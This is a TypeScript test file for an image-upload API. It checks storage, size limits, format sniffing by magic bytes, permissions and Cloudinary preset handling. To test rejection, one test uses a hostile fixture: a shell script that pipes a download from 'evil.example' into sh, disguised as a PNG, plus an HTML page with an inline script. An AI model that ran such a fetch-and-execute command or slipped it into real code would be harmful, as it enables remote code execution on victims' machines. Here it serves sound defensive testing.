import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAuditRepository, tables } from '@qahwa/db';
import type { CloudinarySettings } from '@qahwa/schema/config';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../src/config';
import { createCloudinaryImageStore } from '../src/uploads/cloudinary';
import { syncUploadPresets } from '../src/uploads/presets';
import { sniffImage } from '../src/uploads/sniff';
import { type FakeCloudinary, startFakeCloudinary } from './fake-cloudinary';
import { type Gateway, startGateway } from './harness';
import { staffCookie } from './staff-session';

/** A real 1×1 PNG. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const MB = 1024 * 1024;

let gw: Gateway;
let dir: string;
let cookie: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'qahwa-uploads-'));
  const base = loadConfig({ NODE_ENV: 'test' });
  gw = await startGateway({ config: { uploads: { ...base.uploads, dir, cloudinary: null } } });
  ({ cookie } = await staffCookie(gw, {
    permissions: [{ module: 'products', canView: true, canEdit: true }],
  }));
});
afterAll(async () => {
  await gw?.close();
  await rm(dir, { recursive: true, force: true });
});

const upload = (folder: string, body: Buffer, headers: Record<string, string> = {}, query = '') =>
  gw.app.inject({
    method: 'POST',
    url: `/api/uploads/${folder}${query}`,
    headers: { cookie, 'content-type': 'image/png', ...headers },
    payload: body,
  });

/** What is in the uploads folder, temporary files included. */
const onDisk = async () => (await readdir(dir)).sort();

describe('uploading an image (SPEC 5, 7)', () => {
  it('stores a PNG, answers public_id, secure_url, format and bytes, and serves it cached for a year', async () => {
    const res = await upload('products', PNG, {}, '?name=beans.png');
    expect(res.statusCode).toBe(201);
    const result = res.json();
    expect(result).toMatchObject({ format: 'png', bytes: PNG.length });
    expect(result.public_id).toMatch(/^products\/[a-f0-9]{64}$/);
    expect(result.secure_url).toMatch(/^\/api\/uploads\/files\/[a-f0-9]{64}\.png$/);

    const served = await gw.app.inject({ method: 'GET', url: result.secure_url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.rawPayload.equals(PNG)).toBe(true);

    // Recorded, with who uploaded it, and audited under products.
    const [row] = await gw.db
      .select()
      .from(tables.uploads)
      .where(eq(tables.uploads.publicId, result.public_id));
    expect(row).toMatchObject({ folder: 'products', storage: 'local', bytes: PNG.length });
    const [entry] = await createAuditRepository(gw.db).list({ entityId: result.public_id });
    expect(entry).toMatchObject({ module: 'products', action: 'upload', entityType: 'image' });

    // The same picture again is the same file.
    const again = await upload('products/gallery', PNG);
    expect(again.json().secure_url).toBe(result.secure_url);
    expect((await onDisk()).filter((f) => f.endsWith('.png'))).toHaveLength(1);
  });

  it('refuses a file named .png that is really a script, by its bytes, and leaves nothing on disk', async () => {
    const before = await onDisk();
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    const res = await upload('products', script, { 'content-type': 'image/png' }, '?name=evil.png');
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({
      success: false,
      code: 'UPLOAD_INVALID_TYPE',
      error: 'Invalid file type: evil.png. Please use JPG, PNG, WEBP, or AVIF.',
    });
    // An HTML page claiming to be an image is no better.
    const html = await upload('products', Buffer.from('<html><script>alert(1)</script></html>'), {
      'content-type': 'image/webp',
    });
    expect(html.statusCode).toBe(415);
    expect(await onDisk()).toEqual(before);
  });

  it('refuses an 11 MB image with the SPEC 5 message, in English and Arabic, and leaves nothing on disk', async () => {
    const before = await onDisk();
    const big = Buffer.concat([PNG, Buffer.alloc(11 * MB - PNG.length, 7)]);
    const en = await upload('products', big, { 'x-locale': 'en' });
    expect(en.statusCode).toBe(413);
    expect(en.json()).toMatchObject({
      code: 'UPLOAD_TOO_LARGE',
      error: 'File size exceeds 10MB limit. Current size: 11.00 MB',
    });
    const ar = await upload('products', big, { 'x-locale': 'ar' });
    expect(ar.json().error).toBe(
      'حجم الملف يتجاوز الحد الأقصى البالغ 10 ميغابايت. الحجم الحالي: 11.00 ميغابايت',
    );
    expect(await onDisk()).toEqual(before);
  });

  it('takes exactly 10 MB (the limit is inclusive)', async () => {
    const edge = Buffer.concat([PNG, Buffer.alloc(10 * MB - PNG.length, 1)]);
    const res = await upload('products', edge);
    expect(res.statusCode).toBe(201);
    expect(res.json().bytes).toBe(10 * MB);
  });

  it('needs the folder’s module with edit: a products editor cannot upload a slider', async () => {
    const res = await upload('sliders', PNG);
    expect(res.statusCode).toBe(403);
  });

  it('tells the formats apart by their magic bytes', () => {
    expect(sniffImage(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0]))).toBe('jpg');
    expect(sniffImage(PNG)).toBe('png');
    expect(sniffImage(Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1'))).toBe('webp');
    const avif = Buffer.concat([
      Buffer.from([0, 0, 0, 0x1c]),
      Buffer.from('ftypavif\0\0\0\0avifmif1miaf', 'latin1'),
    ]);
    expect(sniffImage(avif)).toBe('avif');
    expect(sniffImage(Buffer.from('GIF89a'))).toBeNull();
    expect(sniffImage(Buffer.from('%PDF-1.7'))).toBeNull();
  });
});

describe('Cloudinary, when its keys are set: one upload preset per kind of image (SPEC 7)', () => {
  let fake: FakeCloudinary;
  let settings: CloudinarySettings;
  let cloud: Gateway;
  let editor: string;

  /** A PNG's signature and IHDR saying 4000 × 3000 (the fake reads the size there). */
  const BIG_PNG = (() => {
    const b = Buffer.alloc(64);
    PNG.copy(b, 0, 0, 16);
    b.writeUInt32BE(4000, 16);
    b.writeUInt32BE(3000, 20);
    return b;
  })();

  beforeAll(async () => {
    fake = await startFakeCloudinary({ cloudName: 'demo', apiKey: 'key123', apiSecret: 'secret456' });
    // The presets' names come from the gateway's settings, as in production.
    const loaded = loadConfig({
      NODE_ENV: 'test',
      CLOUDINARY_URL: 'cloudinary://key123:secret456@demo',
      CLOUDINARY_API_BASE: fake.url,
    }).uploads.cloudinary;
    if (!loaded) throw new Error('Cloudinary settings expected');
    settings = loaded;
    const base = loadConfig({ NODE_ENV: 'test' });
    cloud = await startGateway({ config: { uploads: { ...base.uploads, dir, cloudinary: settings } } });
    ({ cookie: editor } = await staffCookie(cloud, {
      permissions: ['products', 'variation', 'categories', 'content'].map((module) => ({
        module,
        canView: true,
        canEdit: true,
      })) as never,
    }));
  });
  afterAll(async () => {
    await cloud?.close();
    await fake?.close();
  });

  const send = (path: string, body: Buffer = BIG_PNG) =>
    cloud.app.inject({
      method: 'POST',
      url: `/api/uploads/${path}`,
      headers: { cookie: editor, 'content-type': 'image/png', 'x-locale': 'en' },
      payload: body,
    });

  it('sets up every kind’s preset at the provider: its folder, the SPEC 5 formats and its size limit', async () => {
    const created = await syncUploadPresets(settings);
    expect(created.map((c) => `${c.action} ${c.name}`)).toEqual([
      'created qahwa_products',
      'created qahwa_products_gallery',
      'created qahwa_products_variations',
      'created qahwa_categories',
      'created qahwa_sliders',
      'created qahwa_returns',
    ]);
    expect(fake.presets.get('qahwa_sliders')).toEqual({
      name: 'qahwa_sliders',
      unsigned: false,
      settings: {
        folder: 'sliders',
        allowed_formats: 'jpeg,jpg,png,webp,avif',
        transformation: 'c_limit,w_2400,h_1200',
        overwrite: 'false',
        unique_filename: 'true',
      },
    });
    // Run again, it updates them in place.
    expect((await syncUploadPresets(settings)).every((c) => c.action === 'updated')).toBe(true);
    expect(fake.presets.size).toBe(6);
  });

  it.each([
    ['products', 'qahwa_products', { width: 2000, height: 1500 }],
    ['products/gallery', 'qahwa_products_gallery', { width: 2000, height: 1500 }],
    ['products/variations', 'qahwa_products_variations', { width: 1200, height: 900 }],
    ['categories', 'qahwa_categories', { width: 1200, height: 900 }],
    ['sliders', 'qahwa_sliders', { width: 1600, height: 1200 }],
  ])(
    'signs an upload to %s with that kind’s preset %s, which files and sizes it',
    async (folder, preset, size) => {
      const res = await send(folder);
      expect(res.statusCode).toBe(201);
      const upload = fake.uploads.at(-1);
      expect(upload?.fields).toMatchObject({ upload_preset: preset, folder, api_key: 'key123' });
      expect(upload?.result).toMatchObject(size);
      expect(res.json()).toEqual({
        public_id: expect.stringMatching(new RegExp(`^${folder}/`)),
        secure_url: expect.stringMatching(/^https:\/\/res\.cloudinary\.com\/demo\/image\/upload\/v\d+\//),
        format: 'png',
        bytes: BIG_PNG.length,
      });
      expect(res.json().secure_url).toContain(`/${folder}/`);
      const [row] = await cloud.db
        .select()
        .from(tables.uploads)
        .where(eq(tables.uploads.publicId, res.json().public_id));
      expect(row).toMatchObject({ folder, storage: 'cloudinary' });
    },
  );

  it('refuses a kind it does not know with the one error body, and sends nothing to the provider', async () => {
    const before = fake.uploads.length;
    const res = await send('banners');
    expect(res.statusCode).toBe(404);
    expect(res.json()).toMatchObject({ success: false, code: 'NOT_FOUND', error: expect.any(String) });
    expect(fake.uploads.length).toBe(before);
  });

  it('says the provider’s refusal when a kind’s preset is missing there (SPEC 8)', async () => {
    const kept = fake.presets.get('qahwa_categories');
    fake.presets.delete('qahwa_categories');
    try {
      const res = await send('categories');
      expect(res.statusCode).toBe(502);
      expect(res.json()).toMatchObject({
        code: 'UPLOAD_PROVIDER',
        error: 'provider error: Upload preset not found',
      });
    } finally {
      if (kept) fake.presets.set('qahwa_categories', kept);
    }
  });

  it('passes a bad signature’s refusal on as its message', async () => {
    const store = createCloudinaryImageStore({ ...settings, apiSecret: 'wrong-secret' });
    await expect(
      store.put({ bytes: PNG, format: 'png', kind: 'slider', folder: 'sliders', tags: [] }),
    ).rejects.toMatchObject({ kind: 'provider', message: 'Invalid Signature' });
  });

  it('keeps the caller’s public_id and tags beside the preset', async () => {
    const store = createCloudinaryImageStore(settings);
    const result = await store.put({
      bytes: PNG,
      format: 'png',
      kind: 'product',
      folder: 'products',
      publicId: 'ethiopia',
      tags: ['catalogue'],
    });
    expect(result).toMatchObject({ public_id: 'products/ethiopia', format: 'png', bytes: PNG.length });
    expect(fake.uploads.at(-1)?.fields).toMatchObject({
      folder: 'products',
      public_id: 'ethiopia',
      tags: 'catalogue',
      upload_preset: 'qahwa_products',
    });
  });
});
